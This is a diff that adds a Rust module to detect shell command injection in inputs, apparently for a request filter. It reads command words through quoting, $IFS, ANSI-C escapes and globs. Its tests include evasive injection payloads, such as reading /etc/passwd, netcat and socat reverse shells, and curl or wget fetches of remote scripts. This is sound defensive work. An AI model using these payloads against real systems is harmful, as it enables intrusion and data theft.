@@ -1,0 +1,476 @@
+//! Shell read as shell: command injection is a separator or a substitution (`;`, `|`, `&`, `&&`, `||`, a
+//! newline, `` ` ``, `$(`, `<(`) followed by a program, so each such place is read as the shell reads a
+//! command word — quotes inside words, backslashes, `$IFS`, `${VAR:0:1}`, ANSI-C `$'\x69'` strings and
+//! globs such as `/???/??t` resolved against common programs — and the word is looked up in a command
+//! vocabulary. Whether it is an attack then depends on what follows: shell-shaped arguments
+//! (`-la`, `/etc`, `$HOME`, a URL) or nothing, not words of prose.
+
+mod words;
+
+use words::{Kind, PROGRAM_PATHS, command, glob_matches};
+
+/// The longest word read as a command name (a path included).
+const MAX_WORD: usize = 48;
+
+/// A shell shape found in an input; each is one grammar rule (see `GRAMMAR_RULES`).
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
+pub(crate) enum Shape {
+    /// A program name after a separator or in markdown-like backquotes, with prose after it: weak.
+    ProseCommand,
+    /// A value that is a program with shell-shaped arguments (`cat /etc/passwd`, `ping -c 3 host`).
+    WholeCommand,
+    /// A separator, then a program with shell-shaped arguments or none (`;id`, `| cat /etc/passwd`).
+    Separated,
+    /// A program in a command substitution (`$(id)`, `` x`whoami` ``, `<(curl ...)`).
+    Substitution,
+    /// A program stored in a variable and run from it (`CMD=$'id';$CMD`).
+    StoredCommand,
+}
+
+impl Shape {
+    /// The grammar rule of this shape.
+    pub(crate) fn rule_id(self) -> u16 {
+        match self {
+            Shape::Separated => 411,
+            Shape::Substitution => 412,
+            Shape::WholeCommand => 413,
+            Shape::StoredCommand => 414,
+            Shape::ProseCommand => 415,
+        }
+    }
+}
+
+/// How a command position was reached.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Position {
+    /// The start of the input or of a line: prose starts here too.
+    Start,
+    /// After `;`, `|`, `&`.
+    Separator,
+    /// After `$(`, `<(`, `>(`, or a backquote glued to the text before it.
+    Substitution,
+    /// After a backquote with a space or nothing before it: markdown writes code this way.
+    Backquote,
+}
+
+/// The strongest shell shape in `text`, if any.
+pub(crate) fn detect(text: &[u8]) -> Option<Shape> {
+    let mut best = judge(text, 0, Position::Start);
+    for at in
+        memchr::memchr3_iter(b';', b'|', b'&', text).chain(memchr::memchr3_iter(b'\n', b'`', b'(', text))
+    {
+        let position = match text[at] {
+            b';' | b'|' | b'&' => Position::Separator,
+            b'\n' => Position::Start,
+            b'`' if at == 0 || !text[at - 1].is_ascii_whitespace() => Position::Substitution,
+            b'`' => Position::Backquote,
+            _ if at > 0 && matches!(text[at - 1], b'$' | b'<' | b'>') => Position::Substitution,
+            _ => continue,
+        };
+        if let Some(shape) = judge(text, at + 1, position) {
+            best = best.max(Some(shape));
+            if shape >= Shape::Separated {
+                return best;
+            }
+        }
+    }
+    best
+}
+
+/// The command word at `at`, reached through `position`.
+fn judge(text: &[u8], at: usize, position: Position) -> Option<Shape> {
+    let mut at = skip_blanks(text, at);
+    let mut braced = false;
+    // Grouping, negation, a doubled separator and cmd.exe's `^` escape come before the command word.
+    while let Some(&byte @ (b'{' | b'(' | b'!' | b'&' | b'|' | b'^')) = text.get(at) {
+        braced |= byte == b'{';
+        at = skip_blanks(text, at + 1);
+    }
+    let word = Word::read(text, at)?;
+    if let Some(shape) = stored_command(text, &word) {
+        return Some(shape);
+    }
+    let kind = command(word.program()?)?;
+    let unambiguous = kind == Kind::Program;
+    // A quoted word with spaces in it (`'ping -c 3 host'`) is a whole command line to an `eval`.
+    let arguments = match word.inner_arguments() {
+        Some(inner) => Arguments::after(inner, 0),
+        None => Arguments::after(text, word.end),
+    };
+    let shell_shaped = match arguments {
+        Arguments::Shell => true,
+        Arguments::BraceList => braced,
+        Arguments::Number => position != Position::Start,
+        Arguments::None => kind != Kind::Word,
+        Arguments::LineEnd => unambiguous,
+        Arguments::Prose => false,
+    };
+    match position {
+        Position::Substitution => Some(Shape::Substitution),
+        Position::Separator if shell_shaped || unambiguous => Some(Shape::Separated),
+        Position::Start if shell_shaped && (unambiguous || arguments != Arguments::None) => {
+            Some(Shape::WholeCommand)
+        }
+        Position::Separator => Some(Shape::ProseCommand),
+        // Markdown's code spans: a finding only with shell-shaped arguments (`` `ls -la` ``).
+        Position::Backquote if shell_shaped => Some(Shape::ProseCommand),
+        Position::Start | Position::Backquote => None,
+    }
+}
+
+/// `NAME=program...` whose `$NAME` is run later in the input.
+fn stored_command(text: &[u8], word: &Word) -> Option<Shape> {
+    let equals = word.assignment?;
+    let name = &text[word.start..word.start + equals];
+    let value = &word.bytes[equals + 1..word.length];
+    let program = value.split(u8::is_ascii_whitespace).next()?;
+    command(basename(program))?;
+    let rest = &text[word.end..];
+    let used = memchr::memmem::find_iter(rest, b"$").any(|at| {
+        let after = &rest[at + 1..];
+        let after = after.strip_prefix(b"{").unwrap_or(after);
+        after.starts_with(name)
+            && !after.get(name.len()).is_some_and(|b| b.is_ascii_alphanumeric() || *b == b'_')
+    });
+    used.then_some(Shape::StoredCommand)
+}
+
+fn skip_blanks(text: &[u8], mut at: usize) -> usize {
+    while let Some(b' ' | b'\t' | b'\r' | b'\n') = text.get(at) {
+        at += 1;
+    }
+    at
+}
+
+/// The part of a path after its last `/` or `\`, without `.exe`.
+fn basename(path: &[u8]) -> &[u8] {
+    let name = match path.iter().rposition(|b| matches!(b, b'/' | b'\\')) {
+        Some(slash) => &path[slash + 1..],
+        None => path,
+    };
+    name.strip_suffix(b".exe").unwrap_or(name)
+}
+
+/// One word as the shell reads it: quotes removed, escapes and expansions resolved, lowercased.
+struct Word {
+    bytes: [u8; MAX_WORD],
+    length: usize,
+    /// Where the word starts and ends in the input.
+    start: usize,
+    end: usize,
+    /// Whether it holds glob characters.
+    glob: bool,
+    /// Where `=` of an assignment `NAME=value` is in `bytes`.
+    assignment: Option<usize>,
+}
+
+impl Word {
+    /// The word at `at`; `None` when there is none or it is longer than a program name.
+    fn read(text: &[u8], at: usize) -> Option<Word> {
+        let mut word =
+            Word { bytes: [0; MAX_WORD], length: 0, start: at, end: at, glob: false, assignment: None };
+        let mut i = at;
+        while let Some(&byte) = text.get(i) {
+            match byte {
+                b' ' | b'\t' | b'\r' | b'\n' | b';' | b'&' | b'|' | b'<' | b'>' | b'(' | b')' | b'`'
+                | b',' | b'}' => break,
+                b'\'' | b'"' => {
+                    let body = &text[i + 1..];
+                    let close = memchr::memchr(byte, body).unwrap_or(body.len());
+                    // A backslash before the closing quote escaped it once more than needed.
+                    let inside = &body[..close];
+                    word.push_all(inside.strip_suffix(b"\\").unwrap_or(inside))?;
+                    i += close + 2;
+                }
+                // An escaped quote is read as the quote: payloads arrive escaped once more than needed.
+                b'\\' if matches!(text.get(i + 1), Some(b'\'' | b'"')) => i += 1,
+                b'\\' => {
+                    match text.get(i + 1) {
+                        Some(b'\n') | None => {}
+                        Some(&next) => word.push(next)?,
+                    }
+                    i += 2;
+                }
+                b'$' => match expansion(text, i) {
+                    Expansion::Break => break,
+                    Expansion::Text(skip, value) => {
+                        word.push_all(value.as_slice())?;
+                        i += skip;
+                    }
+                },
+                b'?' | b'*' | b'[' => {
+                    word.glob = true;
+                    word.push(byte)?;
+                    i += 1;
+                }
+                b'=' if word.assignment.is_none()
+                    && word.length > 0
+                    && text[at..i].iter().all(|b| b.is_ascii_alphanumeric() || *b == b'_') =>
+                {
+                    word.assignment = Some(word.length);
+                    word.push(byte)?;
+                    i += 1;
+                }
+                _ => {
+                    word.push(byte.to_ascii_lowercase())?;
+                    i += 1;
+                }
+            }
+        }
+        word.end = i.min(text.len());
+        (word.length > 0).then_some(word)
+    }
+
+    fn push(&mut self, byte: u8) -> Option<()> {
+        *self.bytes.get_mut(self.length)? = byte;
+        self.length += 1;
+        Some(())
+    }
+
+    fn push_all(&mut self, bytes: &[u8]) -> Option<()> {
+        bytes.iter().try_for_each(|byte| self.push(byte.to_ascii_lowercase()))
+    }
+
+    /// The part of the word before a quoted space, if it has one.
+    fn head(&self) -> &[u8] {
+        let word = &self.bytes[..self.length];
+        let space = word.iter().position(u8::is_ascii_whitespace).unwrap_or(word.len());
+        &word[..space]
+    }
+
+    /// What follows a quoted space in the word.
+    fn inner_arguments(&self) -> Option<&[u8]> {
+        let word = &self.bytes[..self.length];
+        word.iter().position(u8::is_ascii_whitespace).map(|space| &word[space..])
+    }
+
+    /// The program this word names, glob resolved against common program paths.
+    fn program(&self) -> Option<&[u8]> {
+        let word = self.head();
+        if !self.glob {
+            return Some(basename(word));
+        }
+        if word.first() != Some(&b'/') {
+            return None;
+        }
+        PROGRAM_PATHS
+            .iter()
+            .find(|path| glob_matches(word, path.as_bytes()))
+            .map(|path| basename(path.as_bytes()))
+    }
+}
+
+/// What a `$` at the cursor expands to, as far as naming a program goes.
+enum Expansion {
+    /// `$IFS`, `${IFS}`: a word break.
+    Break,
+    /// Skip this many bytes and add this text.
+    Text(usize, Expanded),
+}
+
+/// A short expansion result.
+struct Expanded {
+    bytes: [u8; MAX_WORD],
+    length: usize,
+}
+
+impl Expanded {
+    fn of(bytes: &[u8]) -> Self {
+        let mut expanded = Expanded { bytes: [0; MAX_WORD], length: 0 };
+        for &byte in bytes.iter().take(MAX_WORD) {
+            expanded.bytes[expanded.length] = byte;
+            expanded.length += 1;
+        }
+        expanded
+    }
+
+    fn as_slice(&self) -> &[u8] {
+        &self.bytes[..self.length]
+    }
+}
+
+/// The expansion of the `$` at `at`.
+fn expansion(text: &[u8], at: usize) -> Expansion {
+    let rest = &text[at + 1..];
+    match rest.first() {
+        Some(b'\'') => ansi_c_string(rest),
+        Some(b'{') => {
+            let Some(close) = memchr::memchr(b'}', rest) else {
+                return Expansion::Text(1, Expanded::of(b"$"));
+            };
+            let inner = &rest[1..close];
+            let name_length = inner.iter().take_while(|b| b.is_ascii_alphanumeric() || **b == b'_').count();
+            let (name, operation) = inner.split_at(name_length);
+            if name == b"IFS" && operation.is_empty() {
+                return Expansion::Break;
+            }
+            // `${PATH:0:1}` and its like are `/`: these variables hold absolute paths.
+            let slash = matches!(name, b"PATH" | b"HOME" | b"PWD" | b"SHELL" | b"OLDPWD")
+                && operation.starts_with(b":0:1");
+            Expansion::Text(close + 2, Expanded::of(if slash { b"/" } else { b"" }))
+        }
+        Some(b'@' | b'*' | b'#' | b'0'..=b'9') => Expansion::Text(2, Expanded::of(b"")),
+        // `$"..."` is a translated string: the string itself.
+        Some(b'"') | Some(b'\\') => Expansion::Text(1, Expanded::of(b"")),
+        _ if rest.starts_with(b"IFS") => Expansion::Break,
+        _ => Expansion::Text(1, Expanded::of(b"$")),
+    }
+}
+
+/// `$'...'` at `rest` (after the `$`): backslash escapes decoded.
+fn ansi_c_string(rest: &[u8]) -> Expansion {
+    let body = &rest[1..];
+    let mut out = Expanded { bytes: [0; MAX_WORD], length: 0 };
+    let mut i = 0;
+    while i < body.len() && body[i] != b'\'' {
+        let (byte, used) = match &body[i..] {
+            [b'\\', b'x', a, b, ..] if a.is_ascii_hexdigit() && b.is_ascii_hexdigit() => {
+                (hex(*a) * 16 + hex(*b), 4)
+            }
+            [b'\\', a @ b'0'..=b'3', b @ b'0'..=b'7', c @ b'0'..=b'7', ..] => {
+                ((a - b'0') * 64 + (b - b'0') * 8 + (c - b'0'), 4)
+            }
+            [b'\\', b'n', ..] => (b'\n', 2),
+            [b'\\', other, ..] => (*other, 2),
+            [byte, ..] => (*byte, 1),
+            [] => break,
+        };
+        if out.length < MAX_WORD {
+            out.bytes[out.length] = byte;
+            out.length += 1;
+        }
+        i += used;
+    }
+    Expansion::Text(1 + i + 2, out)
+}
+
+fn hex(digit: u8) -> u8 {
+    match digit {
+        b'0'..=b'9' => digit - b'0',
+        _ => (digit | 0x20) - b'a' + 10,
+    }
+}
+
+/// What follows a command word.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Arguments {
+    /// Nothing, or another separator: the command runs alone.
+    None,
+    /// The end of a line: the command runs alone, or a line of prose ends in an ordinary word.
+    LineEnd,
+    /// An option, a path, a variable, a redirection, a URL, an address or a quoted string.
+    Shell,
+    /// An integer (`sleep 5`), which prose also writes after a word.
+    Number,
+    /// A comma: brace expansion's list (`{cat,/etc/passwd}`) when a brace opened the word.
+    BraceList,
+    /// A word of text.
+    Prose,
+}
+
+impl Arguments {
+    fn after(text: &[u8], mut at: usize) -> Arguments {
+        loop {
+            at = match text.get(at) {
+                Some(b' ' | b'\t') => at + 1,
+                Some(b'$') if text[at + 1..].starts_with(b"IFS") => at + 4,
+                Some(b'$') if text[at + 1..].starts_with(b"{IFS}") => at + 6,
+                _ => break,
+            };
+        }
+        let rest = &text[at.min(text.len())..];
+        let token_end =
+            rest.iter().skip(1).position(u8::is_ascii_whitespace).map_or(rest.len(), |end| end + 1);
+        let token = &rest[..token_end];
+        match token {
+            [] | [b';' | b'|' | b'&' | b'`' | b')' | b'#', ..] => Arguments::None,
+            [b'\r' | b'\n', ..] => Arguments::LineEnd,
+            [b',', ..] => Arguments::BraceList,
+            [b'-', next, ..] if next.is_ascii_alphanumeric() || *next == b'-' => Arguments::Shell,
+            [b'/' | b'~' | b'.' | b'$' | b'%' | b'\\' | b'>' | b'<' | b'*' | b'\'' | b'"' | b'{', ..] => {
+                Arguments::Shell
+            }
+            [digit, ..] if digit.is_ascii_digit() && token.contains(&b'.') => Arguments::Shell,
+            [digit, ..] if digit.is_ascii_digit() => Arguments::Number,
+            [letter, b':', b'\\' | b'/', ..] if letter.is_ascii_alphabetic() => Arguments::Shell,
+            _ if memchr::memmem::find(token, b"://").is_some() => Arguments::Shell,
+            _ if token.contains(&b'/') && token.contains(&b'.') => Arguments::Shell,
+            _ => Arguments::Prose,
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn shape(input: &str) -> Option<Shape> {
+        detect(input.as_bytes())
+    }
+
+    #[test]
+    fn commands_in_their_disguises() {
+        let cases: &[(&str, Shape)] = &[
+            ("a;id", Shape::Separated),
+            ("x | cat /etc/passwd", Shape::Separated),
+            ("a;c'a't /e't'c/pas'swd'", Shape::Separated),
+            ("a;w\\hoami", Shape::Separated),
+            ("a;/???/??t /???/p??s??", Shape::Separated),
+            ("x;$(printf '\\x69\\x64')", Shape::Substitution),
+            ("x;${PATH:0:1}bin${PATH:0:1}id", Shape::Separated),
+            ("a;cat${IFS}/etc/passwd", Shape::Separated),
+            ("a && busybox nc 10.0.0.1 4444", Shape::Separated),
+            ("a | socat tcp:1.2.3.4:80 exec:sh", Shape::Separated),
+            ("a; printenv", Shape::Separated),
+            ("a;{cat,/etc/passwd}", Shape::Separated),
+            ("a; find / -perm -4000", Shape::Separated),
+            ("a || reboot", Shape::Separated),
+            ("a & dir c:\\", Shape::Separated),
+            ("x`whoami`", Shape::Substitution),
+            ("diff <(curl http://x)", Shape::Substitution),
+            ("CMD=$'id';$CMD", Shape::StoredCommand),
+            ("FAIL||CMD=$'ls -la /';$CMD", Shape::StoredCommand),
+            ("'ping -c 3 127.0.0.1'", Shape::WholeCommand),
+            ("\n dir c:/", Shape::WholeCommand),
+            ("cat /etc/passwd", Shape::WholeCommand),
+            ("whoami", Shape::WholeCommand),
+            ("a;$'\\x77hoami'", Shape::Separated),
+            ("^CMD=$'id';$CMD", Shape::StoredCommand),
+            ("CMD=$\\'wget http://example.com/x.sh\\';$CMD", Shape::StoredCommand),
+            ("CMD=$\\\"id\\\";$CMD", Shape::StoredCommand),
+        ];
+        for (input, expected) in cases {
+            assert_eq!(shape(input), Some(*expected), "{input}");
+        }
+    }
+
+    #[test]
+    fn prose_is_not_a_command() {
+        for input in [
+            "Tom & Jerry",
+            "Find the answer, please",
+            "I love tea; more please",
+            "Python is great",
+            "Sleep well & dream",
+            "R&D and AT&T",
+            "Use `ls` to list files",
+            "The cat sat on the mat",
+            "ID card lost",
+            "ash, I then looked round",
+            "for two years; at\r\nonce",
+            "SET 8 -MINI AS",
+            "time, so kindly take us",
+            "",
+            "$",
+            "${",
+            "$'",
+            "\\",
+        ] {
+            assert!(
+                shape(input).is_none_or(|shape| shape == Shape::ProseCommand),
+                "{input}: {:?}",
+                shape(input)
+            );
+        }
+    }
+}
